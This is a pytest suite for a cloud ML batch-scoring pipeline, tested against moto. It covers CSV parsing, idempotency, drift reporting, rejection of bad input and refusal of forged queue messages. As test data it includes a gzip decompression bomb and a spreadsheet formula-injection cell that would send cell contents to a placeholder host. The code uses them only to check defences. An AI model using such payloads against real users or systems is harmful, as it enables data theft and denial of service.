"""Scoring logic against moto: outputs, idempotency, every class of bad input, transient failures."""

from __future__ import annotations

import csv
import dataclasses
import gzip
import io
import json
import zipfile
from urllib.parse import quote_plus

import boto3
import pytest
from botocore.exceptions import ClientError
from scoring import outputs
from scoring.logic import Clients, ScoringContext, score_job
from scoring.messages import Job, RefusedMessage, jobs_from_message, range_message
from scoring.models import NoChampionYet
from scoring.ranges import range_jobs

from mlops_core.environment import ScoringEnvironment
from mlops_core.registry.store import ArtifactIntegrityError, Registry
from mlops_core.storage import layout
from mlopsctl.datagen import generate
from tests.unit.conftest import DATA, MODELS, REGION, LambdaContext


class CountingCloudWatch:
    """Wraps a CloudWatch client and keeps every PutMetricData call."""

    def __init__(self, client) -> None:
        self.client = client
        self.calls: list[dict] = []

    def put_metric_data(self, **kwargs):
        self.calls.append(kwargs)
        return self.client.put_metric_data(**kwargs)

    def metric_values(self, name: str) -> list[float]:
        return [d["Value"] for c in self.calls for d in c["MetricData"] if d["MetricName"] == name]


@pytest.fixture
def env(aws, config):
    sqs = boto3.client("sqs", region_name=REGION)
    queue_url = sqs.create_queue(QueueName="scoring")["QueueUrl"]
    clients = Clients(aws, CountingCloudWatch(boto3.client("cloudwatch", region_name=REGION)), sqs)
    return clients, ScoringContext(ScoringEnvironment(DATA, MODELS, queue_url, "MLOps"), config)


def put(s3, key: str, body: bytes) -> Job:
    """Put an object; the job its S3 event brings (naming its version in a versioned bucket)."""
    (job,) = jobs_from_message(put_event(s3, key, body), DATA)
    return job


def put_event(s3, key: str, body: bytes) -> dict:
    """Put an object; its S3 event notification, as S3 sends it."""
    response = s3.put_object(Bucket=DATA, Key=key, Body=body)
    etag, version_id = response["ETag"].strip('"'), response.get("VersionId")
    return s3_event(quote_plus(key, safe="/"), etag=etag, size=len(body), version_id=version_id)


def read_csv(s3, key: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(s3.get_object(Bucket=DATA, Key=key)["Body"].read().decode())))


def keys(s3, prefix: str) -> list[str]:
    return sorted(o["Key"] for o in s3.list_objects_v2(Bucket=DATA, Prefix=prefix).get("Contents", []))


def report_of(s3, outcome) -> dict:
    return json.loads(s3.get_object(Bucket=DATA, Key=outcome.detail["outputs"]["report"])["Body"].read())


def s3_event(
    key: str,
    bucket: str = DATA,
    event: str = "ObjectCreated:Put",
    *,
    etag: str = "",
    size: int = 1,
    version_id: str | None = None,
) -> dict:
    """An S3 event notification (`key` as S3 sends it: URL-encoded); `versionId` only when given (S3 sends it
    for versioned buckets only)."""
    obj = {"key": key, "size": size, "eTag": etag, **({"versionId": version_id} if version_id else {})}
    return {"Records": [{"eventName": event, "s3": {"bucket": {"name": bucket}, "object": obj}}]}


def event_of(s3, key: str) -> dict:
    """The S3 event of the object now at `key` (its ETag, size and version; the key URL-encoded, as S3 does)."""
    head = s3.head_object(Bucket=DATA, Key=key)
    etag, size, version_id = head["ETag"].strip('"'), head["ContentLength"], head.get("VersionId")
    return s3_event(quote_plus(key, safe="/"), etag=etag, size=size, version_id=version_id)


# ---------------------------------------------------------------------------- the good path
def test_given_a_good_file_when_scored_then_predictions_keep_ids_and_carry_score_and_version(env, champion):
    clients, settings = env
    job = put(clients.s3, "incoming/batch-1.csv", generate(500, seed=1, with_label=False))
    outcome = score_job(job, clients=clients, context=settings)
    assert outcome.status == "scored"
    key = outcome.detail["outputs"]["predictions"]
    assert key == f"predictions/batch-1/{job.etag}-{champion}.csv"
    rows = read_csv(clients.s3, key)
    assert len(rows) == 500
    assert list(rows[0]) == ["customer_id", "prediction", "score", "model_version"]
    assert rows[0]["customer_id"] == "C00000000"
    assert all(r["prediction"] in ("0", "1") and 0 <= float(r["score"]) <= 1 for r in rows)
    assert {r["model_version"] for r in rows} == {champion}
    assert clients.cloudwatch.metric_values("FilesScored") == [1.0]
    assert clients.cloudwatch.metric_values("RowsScored") == [500.0]


def test_given_the_same_event_delivered_three_times_then_one_output_and_metrics_once(env, champion):
    clients, settings = env
    job = put(clients.s3, "incoming/dup.csv", generate(300, seed=2, with_label=False))
    outcomes = [score_job(job, clients=clients, context=settings) for _ in range(3)]
    assert [o.status for o in outcomes] == ["scored", "skipped", "skipped"]
    assert len(keys(clients.s3, "predictions/dup/")) == 1
    assert clients.cloudwatch.metric_values("FilesScored") == [1.0]


def test_given_a_gzipped_csv_when_scored_then_it_is_decompressed_as_it_streams(env, champion):
    clients, settings = env
    job = put(clients.s3, "incoming/zipped.csv.gz", gzip.compress(generate(400, seed=3, with_label=False)))
    outcome = score_job(job, clients=clients, context=settings)
    assert outcome.status == "scored" and outcome.detail["scored"] == 400
    assert outcome.detail["outputs"]["predictions"].startswith("predictions/zipped/")


def test_given_a_bom_and_crlf_and_quoted_newlines_when_scored_then_parsed_correctly(env, champion):
    clients, settings = env
    text = generate(300, seed=4, with_label=False).decode().replace("\n", "\r\n")
    text = text.replace("C00000001", '"C0000\r\n0001"')
    job = put(clients.s3, "incoming/excel.csv", "\ufeff".encode() + text.encode())
    outcome = score_job(job, clients=clients, context=settings)
    assert outcome.status == "scored" and outcome.detail["scored"] == 300
    rows = read_csv(clients.s3, outcome.detail["outputs"]["predictions"])
    assert rows[1]["customer_id"] == "C0000\r\n0001"


def test_given_a_labeled_batch_when_scored_then_accuracy_is_published_and_rows_kept_for_retraining(env, champion):
    clients, settings = env
    job = put(clients.s3, "incoming/labeled.csv", generate(600, seed=5))
    outcome = score_job(job, clients=clients, context=settings)
    (accuracy,) = clients.cloudwatch.metric_values("ModelAccuracy")
    assert 0.5 < accuracy <= 1.0
    feedback = read_csv(clients.s3, outcome.detail["outputs"]["feedback"])
    assert len(feedback) == 600 and "churned" in feedback[0]


def test_given_a_drifted_batch_when_scored_then_drift_metrics_and_a_report_show_it(env, champion):
    clients, settings = env
    clean = score_job(
        put(clients.s3, "incoming/clean.csv", generate(2000, seed=6, with_label=False)),
        clients=clients,
        context=settings,
    )
    drifted = score_job(
        put(clients.s3, "incoming/drifted.csv", generate(2000, seed=6, covariate_shift=1.5, with_label=False)),
        clients=clients,
        context=settings,
    )
    worst = clients.cloudwatch.metric_values("WorstFeaturePSI")
    assert worst[0] < settings.config.drift.psi_threshold < worst[1]
    report = json.loads(
        clients.s3.get_object(Bucket=DATA, Key=drifted.detail["outputs"]["drift_report"])["Body"].read()
    )
    assert report["drift"]["verdict"] is True and report["model_version"] == champion
    assert clean.detail["outputs"]["drift_report"] != drifted.detail["outputs"]["drift_report"]
    per_feature = [d for c in clients.cloudwatch.calls for d in c["MetricData"] if d["MetricName"] == "FeaturePSI"]
    assert {d["Dimensions"][1]["Value"] for d in per_feature} == set(settings.config.feature_names)
    assert all(d["StorageResolution"] == 1 for c in clients.cloudwatch.calls for d in c["MetricData"])


def test_given_a_batch_below_the_minimum_sample_when_scored_then_no_drift_verdict_is_published(env, champion):
    clients, settings = env
    score_job(
        put(clients.s3, "incoming/tiny.csv", generate(20, seed=8, with_label=False)), clients=clients, context=settings
    )
    assert clients.cloudwatch.metric_values("WorstFeaturePSI") == []
    assert clients.cloudwatch.metric_values("FilesScored") == [1.0]


# ---------------------------------------------------------------------------- bad input
def _csv(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    return buffer.getvalue().encode()


GOOD_HEADER = generate(1, seed=0, with_label=False).decode().splitlines()[0].split(",")
GOOD_ROW = generate(1, seed=0, with_label=False).decode().splitlines()[1].split(",")


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("data.csv", generate(10, seed=0))
    return buffer.getvalue()


def _many(row_fn, n: int = 50) -> bytes:
    return _csv([GOOD_HEADER] + [row_fn(i) for i in range(n)])


BAD_FILES = {
    "empty": (b"", "empty"),
    "header only": (",".join(GOOD_HEADER).encode() + b"\n", "header_only"),
    "missing columns": (_csv([["customer_id", "tenure_months"], ["C1", "3"]]), "missing_columns"),
    "wrong types": (_many(lambda i: [GOOD_ROW[0], "twelve", *GOOD_ROW[2:]]), "too_many_bad_rows"),
    "unknown categories": (_many(lambda i: [*GOOD_ROW[:5], "weekly", GOOD_ROW[6]]), "too_many_bad_rows"),
    "ragged rows": (_many(lambda i: GOOD_ROW[:4]), "too_many_bad_rows"),
    "NaN and inf": (_many(lambda i: [GOOD_ROW[0], "nan" if i % 2 else "inf", *GOOD_ROW[2:]]), "too_many_bad_rows"),
    "bad quoting": (",".join(GOOD_HEADER).encode() + b'\nC1,"3,4,5\nC2,1,2"x,3\n', "bad_quoting"),
    "non-UTF-8 bytes": (",".join(GOOD_HEADER).encode() + b"\nC\xe9\xff1,3,65,1,2,card,card\n", "not_utf8"),
    "oversized field": (
        ",".join(GOOD_HEADER).encode() + b"\n" + b"C" * 5000 + b",3,65,1,2,one-year,card\n",
        "field_too_long",
    ),
    "a zip archive": (_zip_bytes(), "not_csv"),
    "a PDF": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "not_csv"),
    "UTF-16": (",".join(GOOD_HEADER).encode("utf-16"), "not_csv"),
}


@pytest.mark.parametrize("case", list(BAD_FILES), ids=list(BAD_FILES))
def test_given_a_bad_file_when_scored_then_rejected_with_a_report_and_a_copy_and_acknowledged(env, champion, case):
    clients, settings = env
    body, kind = BAD_FILES[case]
    job = put(clients.s3, "incoming/bad.csv", body)
    outcome = score_job(job, clients=clients, context=settings)
    assert outcome.status == "rejected", outcome
    report = report_of(clients.s3, outcome)
    assert report["kind"] == kind
    assert report["error"] and report["fix"]
    copy = clients.s3.get_object(Bucket=DATA, Key=report["copy"])["Body"].read()
    assert copy == body  # nothing lost
    assert keys(clients.s3, "predictions/") == []
    assert clients.cloudwatch.metric_values("FilesRejected") == [1.0]
    # a second delivery is acknowledged without a second report or metric
    assert score_job(job, clients=clients, context=settings).status == "skipped"
    assert clients.cloudwatch.metric_values("FilesRejected") == [1.0]


def test_given_row_errors_the_report_says_where_and_how_to_fix(env, champion):
    clients, settings = env
    job = put(clients.s3, "incoming/types.csv", BAD_FILES["wrong types"][0])
    report = report_of(clients.s3, score_job(job, clients=clients, context=settings))
    first = report["where"]["errors"][0]
    assert first["row"] == 1 and first["column"] == "tenure_months" and first["kind"] == "not_a_number"
    assert "number" in first["fix"]
    assert report["where"]["error_counts"] == {"not_a_number": 50}


def test_given_a_file_over_the_size_limit_when_scored_then_rejected_before_reading(env, champion):
    clients, settings = env
    small = dataclasses.replace(
        settings.config, scoring=dataclasses.replace(settings.config.scoring, max_file_bytes=1000)
    )
    job = put(clients.s3, "incoming/big.csv", generate(200, seed=1))
    outcome = score_job(job, clients=clients, context=dataclasses.replace(settings, config=small))
    assert outcome.status == "rejected" and report_of(clients.s3, outcome)["kind"] == "too_large"


def test_given_a_gzip_bomb_when_scored_then_rejected_at_the_decompressed_limit(env, champion):
    clients, settings = env
    small = dataclasses.replace(
        settings.config, scoring=dataclasses.replace(settings.config.scoring, max_file_bytes=1_000_000)
    )
    bomb = gzip.compress(",".join(GOOD_HEADER).encode() + b"\n" + b"0" * 50_000_000)
    assert len(bomb) < 100_000
    job = put(clients.s3, "incoming/bomb.csv.gz", bomb)
    outcome = score_job(job, clients=clients, context=dataclasses.replace(settings, config=small))
    assert outcome.status == "rejected" and report_of(clients.s3, outcome)["kind"] == "too_large"


def test_given_a_csv_gz_that_is_not_gzip_when_scored_then_rejected(env, champion):
    clients, settings = env
    outcome = score_job(
        put(clients.s3, "incoming/fake.csv.gz", generate(10, seed=1)), clients=clients, context=settings
    )
    assert outcome.status == "rejected" and report_of(clients.s3, outcome)["kind"] == "bad_gzip"


def test_given_a_few_bad_rows_when_scored_then_good_rows_scored_and_bad_rows_kept_with_a_report(env, champion):
    clients, settings = env
    lines = generate(400, seed=9, with_label=False).decode().splitlines()
    lines[5] = lines[5].replace("month-to-month", "weekly").replace("one-year", "weekly").replace("two-year", "weekly")
    lines[10] = "C9,not-a-number,1,1,1,one-year,card"
    outcome = score_job(
        put(clients.s3, "incoming/mostly-good.csv", ("\n".join(lines) + "\n").encode()),
        clients=clients,
        context=settings,
    )
    assert outcome.status == "scored" and outcome.detail["scored"] == 398 and outcome.detail["bad_rows"] == 2
    report = report_of(clients.s3, outcome)
    assert report["verdict"] == "partially_scored"
    assert {(e["row"], e["kind"]) for e in report["errors"]} == {(5, "unknown_category"), (10, "not_a_number")}
    bad = clients.s3.get_object(
        Bucket=DATA, Key=outcome.detail["outputs"]["report"].replace("report.json", "bad_rows.csv")
    )
    assert len(bad["Body"].read().decode().splitlines()) == 2


# ---------------------------------------------------------------------------- events
def test_given_a_test_event_or_foreign_keys_when_parsed_then_no_job():
    assert jobs_from_message({"Event": "s3:TestEvent", "Service": "Amazon S3"}, DATA) == []
    assert jobs_from_message(s3_event("predictions/x.csv"), DATA) == []
    assert jobs_from_message(s3_event("incoming/x.csv", bucket="other"), DATA) == []
    assert jobs_from_message(s3_event("incoming/x.csv", event="ObjectRemoved:Delete"), DATA) == []


def test_given_a_url_encoded_key_when_parsed_then_it_is_decoded():
    (job,) = jobs_from_message(s3_event("incoming/my+file%281%29.csv"), DATA)
    assert job.key == "incoming/my file(1).csv"


# ---------------------------------------------------------------------------- transient failures
def test_given_no_champion_when_scored_then_a_retryable_error(env):
    clients, settings = env
    job = put(clients.s3, "incoming/early.csv", generate(10, seed=1))
    with pytest.raises(NoChampionYet):
        score_job(job, clients=clients, context=settings)
    assert keys(clients.s3, "rejected/") == [] and keys(clients.s3, "reports/receipts/") == []


def test_given_a_swapped_artifact_when_scored_then_refused_by_checksum(env, champion):
    clients, settings = env
    manifest = Registry(clients.s3, MODELS).manifest(champion)
    clients.s3.put_object(Bucket=MODELS, Key=manifest["artifact_key"], Body=b"not the model")
    job = put(clients.s3, "incoming/after-swap.csv", generate(10, seed=1))
    with pytest.raises(ArtifactIntegrityError, match="SHA-256"):
        score_job(job, clients=clients, context=settings)
    assert keys(clients.s3, "predictions/") == []


class FlakyS3:
    """Delegates to a real client; `get_object` of `bad_key` fails like an S3 outage."""

    def __init__(self, client, bad_key: str) -> None:
        self.client = client
        self.bad_key = bad_key

    def __getattr__(self, name):
        return getattr(self.client, name)

    def get_object(self, **kwargs):
        if kwargs.get("Key") == self.bad_key:
            raise ClientError(
                {
                    "Error": {"Code": "InternalError", "Message": "We encountered an internal error"},
                    "ResponseMetadata": {"HTTPStatusCode": 500},
                },
                "GetObject",
            )
        return self.client.get_object(**kwargs)


def test_given_one_failing_file_in_a_batch_when_handled_then_only_it_is_a_batch_item_failure(
    env, champion, monkeypatch
):
    from scoring import handler

    clients, settings = env
    put(clients.s3, "incoming/good.csv", generate(50, seed=1))
    put(clients.s3, "incoming/unlucky.csv", generate(50, seed=2))
    flaky = Clients(FlakyS3(clients.s3, "incoming/unlucky.csv"), clients.cloudwatch, clients.sqs)
    monkeypatch.setattr(handler, "environment", lambda: (settings, flaky))

    def record(message_id: str, key: str) -> dict:
        return {
            "messageId": message_id,
            "receiptHandle": "r",
            "body": json.dumps(event_of(clients.s3, key)),
            "attributes": {},
            "messageAttributes": {},
            "md5OfBody": "",
            "eventSource": "aws:sqs",
            "eventSourceARN": "arn:aws:sqs:us-east-1:000000000000:scoring",
            "awsRegion": REGION,
        }

    event = {"Records": [record("m-good", "incoming/good.csv"), record("m-bad", "incoming/unlucky.csv")]}
    response = handler.lambda_handler(event, LambdaContext("scoring", 2048))
    assert response == {"batchItemFailures": [{"itemIdentifier": "m-bad"}]}
    assert len(keys(clients.s3, "predictions/good/")) == 1
    assert keys(clients.s3, "predictions/unlucky/") == [] and keys(clients.s3, "rejected/") == []


# ---------------------------------------------------------------------------- byte ranges
def test_given_a_file_over_the_range_size_when_scored_then_fanned_out_and_every_row_scored_once(env, champion):
    clients, settings = env
    ranged = dataclasses.replace(
        settings.config, scoring=dataclasses.replace(settings.config.scoring, byte_range_bytes=20_000)
    )
    settings = dataclasses.replace(settings, config=ranged)
    body = generate(3000, seed=11, with_label=False)
    job = put(clients.s3, "incoming/large.csv", body)
    outcome = score_job(job, clients=clients, context=settings)
    assert outcome.status == "fanned_out"
    parts = outcome.detail["parts"]
    assert parts == -(-len(body) // 20_000)
    messages = []
    while batch := clients.sqs.receive_message(QueueUrl=settings.environment.queue_url, MaxNumberOfMessages=10).get(
        "Messages"
    ):
        messages += batch
        for m in batch:
            clients.sqs.delete_message(QueueUrl=settings.environment.queue_url, ReceiptHandle=m["ReceiptHandle"])
    assert len(messages) == parts
    for message in messages:
        (part_job,) = jobs_from_message(json.loads(message["Body"]), DATA)
        assert score_job(part_job, clients=clients, context=settings).status == "scored"
    ids = [r["customer_id"] for k in keys(clients.s3, "predictions/large/") for r in read_csv(clients.s3, k)]
    assert len(ids) == 3000 and len(set(ids)) == 3000


# ---------------------------------------------------------------------------- one input's outputs, and no other's
def test_given_an_input_named_after_another_inputs_etag_when_both_are_scored_then_each_keeps_its_predictions(
    env, champion
):
    """incoming/x/<etag of x.csv>-foo.csv writes predictions/x/<that etag>-foo/...: under the prefix that
    x.csv's own predictions start with. Scoring x.csv must not take them for its leftovers."""
    clients, settings = env
    x = put(clients.s3, "incoming/x.csv", generate(50, seed=1, with_label=False))
    foo = put(clients.s3, f"incoming/x/{x.etag}-foo.csv", generate(60, seed=2, with_label=False))

    foo_outcome = score_job(foo, clients=clients, context=settings)
    x_outcome = score_job(x, clients=clients, context=settings)

    assert (foo_outcome.status, x_outcome.status) == ("scored", "scored")
    assert keys(clients.s3, "predictions/") == sorted(
        [foo_outcome.detail["outputs"]["predictions"], x_outcome.detail["outputs"]["predictions"]]
    )
    assert len(read_csv(clients.s3, foo_outcome.detail["outputs"]["predictions"])) == 60


def test_given_shadow_predictions_of_an_input_named_after_another_inputs_etag_then_dropping_leftovers_keeps_them(
    aws,
):
    x = put(aws, "incoming/x.csv", b"a\n1\n")
    ours = layout.InputOutputs(x.key, x.etag)
    theirs = layout.InputOutputs(f"incoming/x/{x.etag}-foo.csv", "f00")
    leftover, kept, other = ours.shadow("v-old"), ours.shadow("v-new"), theirs.shadow("v-new")
    for key in (leftover, kept, other, theirs.predictions("v-new")):
        aws.put_object(Bucket=DATA, Key=key, Body=b"id\n")

    outputs.drop_other_predictions(aws, DATA, x, {"outputs": {}, "challenger": {"shadow": kept}})

    assert keys(aws, "shadow/") == sorted([kept, other])
    assert keys(aws, "predictions/") == [theirs.predictions("v-new")]


# ---------------------------------------------------------------------------- keys near S3's limit
def all_keys(s3) -> list[str]:
    pages = s3.get_paginator("list_objects_v2").paginate(Bucket=DATA)
    return [o["Key"] for page in pages for o in page.get("Contents", [])]


def test_given_a_key_too_long_for_its_outputs_when_scored_then_rejected_with_a_report_at_a_key_that_fits(env, champion):
    """S3 takes keys of up to 1,024 bytes; every output key adds a prefix, the ETag and the model version to the
    input's name, so a 1,000-byte key's outputs cannot be written: without a rejection it would fail on every
    retry and end in the DLQ with no report."""
    clients, settings = env
    key = "incoming/" + "ünïcode-folder/" * 30 + "f" * 480 + ".csv"
    assert 1000 <= len(key.encode()) <= 1024
    body = generate(20, seed=3, with_label=False)
    job = put(clients.s3, key, body)

    outcome = score_job(job, clients=clients, context=settings)

    assert outcome.status == "rejected"
    report = report_of(clients.s3, outcome)
    assert report["kind"] == "key_too_long" and report["key"] == key and "shortened name" in report["error"]
    assert clients.s3.get_object(Bucket=DATA, Key=report["copy"])["Body"].read() == body
    assert max(len(k.encode()) for k in all_keys(clients.s3)) <= 1024
    assert keys(clients.s3, "predictions/") == [] and clients.cloudwatch.metric_values("FilesRejected") == [1.0]
    assert score_job(job, clients=clients, context=settings).status == "skipped"  # its receipt was found again


def test_given_a_long_file_name_that_fits_when_rejected_then_its_copy_is_named_to_fit(env, champion):
    """A 780-byte file name is scored under its own name, but the rejected copy repeats it after the folder:
    rejected/<name>/<etag>/<file name> would be twice as long as S3 takes."""
    clients, settings = env
    key = "incoming/" + "n" * 776 + ".csv"
    body = b"not,the,columns\n1,2,3\n"

    outcome = score_job(put(clients.s3, key, body), clients=clients, context=settings)

    report = report_of(clients.s3, outcome)
    assert (outcome.status, report["kind"]) == ("rejected", "missing_columns")
    assert f"/{'n' * 700}" in outcome.detail["outputs"]["report"]  # filed under its own name
    assert clients.s3.get_object(Bucket=DATA, Key=report["copy"])["Body"].read() == body
    assert report["copy"].endswith(".csv") and max(len(k.encode()) for k in all_keys(clients.s3)) <= 1024


# ---------------------------------------------------------------------------- upper-case extensions
@pytest.mark.parametrize(
    ("name", "body"), [("UPPER.CSV", generate(30, seed=4)), ("upper.CSV.GZ", gzip.compress(generate(30, seed=4)))]
)
def test_given_an_upper_case_extension_when_scored_then_read_as_csv_and_filed_under_its_name(env, champion, name, body):
    """Windows and older exports write .CSV; the bucket notifies scoring of .CSV and .CSV.GZ as of .csv and .csv.gz."""
    clients, settings = env
    outcome = score_job(put(clients.s3, f"incoming/{name}", body), clients=clients, context=settings)
    assert (outcome.status, outcome.detail["scored"]) == ("scored", 30)
    assert outcome.detail["outputs"]["predictions"].startswith(f"predictions/{name.split('.')[0]}/")


# ---------------------------------------------------------------------------- bad rows opened in a spreadsheet
def test_given_bad_rows_with_formula_cells_when_partly_scored_then_the_report_warns_where_they_are(env, champion):
    """bad_rows.csv is for people to correct in a spreadsheet, which may run a cell starting with = + - @ as a
    formula. The cells stay verbatim (they are the rows to fix and upload again); the report says which."""
    clients, settings = env
    lines = generate(400, seed=9, with_label=False).decode().splitlines()
    lines[5] = '=HYPERLINK("http://x.example/?"&A1),not-a-number,1,1,1,one-year,card'
    lines[10] = "C10,-5,1,@SUM(1),-2+3,one-year,card"  # -5: a number, not a formula
    lines[20] = "C20,7,1,1,1,weekly,card"  # bad, but harmless
    job = put(clients.s3, "incoming/formulas.csv", ("\n".join(lines) + "\n").encode())

    outcome = score_job(job, clients=clients, context=settings)

    assert outcome.status == "scored" and outcome.detail["bad_rows"] == 3
    warning = report_of(clients.s3, outcome)["spreadsheet_warning"]
    assert warning["cells"] == 3 and "formula" in warning["warning"] and "text" in warning["warning"]
    assert warning["first"] == [{"line": 1, "column": 1}, {"line": 2, "column": 4}, {"line": 2, "column": 5}]
    bad = clients.s3.get_object(
        Bucket=DATA, Key=outcome.detail["outputs"]["report"].replace("report.json", "bad_rows.csv")
    )
    assert bad["Body"].read().decode().splitlines()[0].startswith('"=HYPERLINK(')  # verbatim


def test_given_bad_rows_without_formula_cells_then_the_report_has_no_warning(env, champion):
    clients, settings = env
    lines = generate(400, seed=9, with_label=False).decode().splitlines()
    lines[5] = "C5,-3,1,1,1,weekly,card"
    outcome = score_job(
        put(clients.s3, "incoming/plain-bad.csv", ("\n".join(lines) + "\n").encode()), clients=clients, context=settings
    )
    assert outcome.detail["bad_rows"] == 1 and "spreadsheet_warning" not in report_of(clients.s3, outcome)


# ---------------------------------------------------------------------------- untrusted byte-range messages
def range_body(**changes) -> dict:
    fields = {"key": "incoming/large.csv", "etag": "e", "size": 100, "version": "v1", "start": 0, "end": 49}
    return {"range": {**fields, "part": 0, "parts": 2, **changes}}


REFUSED_RANGES = {
    "outside incoming/": (range_body(key="training/base.csv"), "not under incoming/"),
    "not a CSV": (range_body(key="incoming/notes.txt"), "not a .csv"),
    "a gzipped CSV": (range_body(key="incoming/large.csv.gz"), "gzip"),
    "no pinned version": (range_body(version=None), "pinned"),
    "one part of one": (range_body(parts=1), "part 1 of 1"),
    "a part past the last": (range_body(part=2), "part 3 of 2"),
    "a field scoring never sends": (range_body(owner="someone"), "owner"),
}


@pytest.mark.parametrize("case", list(REFUSED_RANGES))
def test_given_a_byte_range_message_scoring_never_sends_when_parsed_then_refused_with_its_reason(case):
    body, reason = REFUSED_RANGES[case]
    with pytest.raises(RefusedMessage, match=reason):
        jobs_from_message(body, DATA)


def large_file(clients, settings, name: str) -> tuple[Job, ScoringContext]:
    """A file that scoring splits into two byte ranges, and the context that splits it."""
    job = put(clients.s3, f"incoming/{name}.csv", generate(600, seed=12, with_label=False))
    scoring = dataclasses.replace(settings.config.scoring, byte_range_bytes=job.size // 2 + 1)
    return job, dataclasses.replace(settings, config=dataclasses.replace(settings.config, scoring=scoring))


def sqs_record(message_id: str, body: dict) -> dict:
    return {
        "messageId": message_id,
        "receiptHandle": "r",
        "body": json.dumps(body),
        "attributes": {},
        "messageAttributes": {},
        "md5OfBody": "",
        "eventSource": "aws:sqs",
        "eventSourceARN": "arn:aws:sqs:us-east-1:000000000000:scoring",
        "awsRegion": REGION,
    }


def test_given_a_byte_range_pinned_to_a_version_never_champion_when_handled_then_refused_logged_and_nothing_written(
    env, champion, trained, monkeypatch, caplog
):
    from scoring import handler

    clients, settings = env
    artifact, manifest = trained
    Registry(clients.s3, MODELS).publish(
        artifact, manifest, version="v20990101T000000Z-never"
    )  # registered, not promoted
    job, settings = large_file(clients, settings, "pinned-elsewhere")
    (first, _) = range_jobs(job, "v20990101T000000Z-never", settings.config.scoring.byte_range_bytes)
    put(clients.s3, "incoming/beside-it.csv", generate(50, seed=3))
    monkeypatch.setattr(handler, "environment", lambda: (settings, clients))

    forged = sqs_record("m-forged", json.loads(range_message(first)))
    event = {"Records": [forged, sqs_record("m-good", s3_event("incoming/beside-it.csv"))]}
    response = handler.lambda_handler(event, LambdaContext("scoring", 2048))

    assert response == {"batchItemFailures": [{"itemIdentifier": "m-forged"}]}  # retried, then dead-lettered
    assert keys(clients.s3, "predictions/pinned-elsewhere/") == []
    assert keys(clients.s3, "reports/receipts/pinned-elsewhere/") == []
    assert len(keys(clients.s3, "predictions/beside-it/")) == 1
    (refusal,) = [record for record in caplog.records if record.getMessage() == "message refused"]
    assert refusal.levelname == "ERROR" and "never was the champion" in refusal.reason


def test_given_byte_ranges_pinned_to_the_champion_and_to_earlier_ones_then_each_is_scored(env, champion, trained):
    clients, settings = env
    artifact, manifest = trained
    registry = Registry(clients.s3, MODELS)
    for version in ("v20990101T000000Z-second", "v20990102T000000Z-third"):
        registry.publish(artifact, manifest, version=version)
        registry.promote(version, expected=registry.champion(), decision={"kind": "promote", "reasons": ["test"]})
    # the third is the champion, the second the one it replaced; the first is found in the pointer's versions
    for pinned in (champion, "v20990101T000000Z-second", "v20990102T000000Z-third"):
        job, ranged = large_file(clients, settings, f"pinned-to-{pinned}")
        (first, _) = range_jobs(job, pinned, ranged.config.scoring.byte_range_bytes)
        (parsed,) = jobs_from_message(json.loads(range_message(first)), DATA)
        outcome = score_job(parsed, clients=clients, context=ranged)
        assert outcome.status == "scored" and outcome.detail["model_version"] == pinned


def test_given_a_large_upper_case_csv_when_fanned_out_then_its_byte_ranges_are_accepted_and_scored(env, champion):
    clients, settings = env
    job, ranged = large_file(clients, settings, "LARGE")
    upper = put(clients.s3, "incoming/LARGE.CSV", clients.s3.get_object(Bucket=DATA, Key=job.key)["Body"].read())
    parts = range_jobs(upper, champion, ranged.config.scoring.byte_range_bytes)

    outcomes = []
    for part in parts:
        (parsed,) = jobs_from_message(json.loads(range_message(part)), DATA)
        outcomes.append(score_job(parsed, clients=clients, context=ranged))

    assert [o.status for o in outcomes] == ["scored", "scored"] and sum(o.detail["scored"] for o in outcomes) == 600


@pytest.mark.parametrize("object_version", [7, ["v"], ""])
def test_given_a_byte_range_naming_no_real_object_version_then_refused(object_version):
    with pytest.raises(RefusedMessage, match="object version"):
        jobs_from_message(range_body(object_version=object_version), DATA)
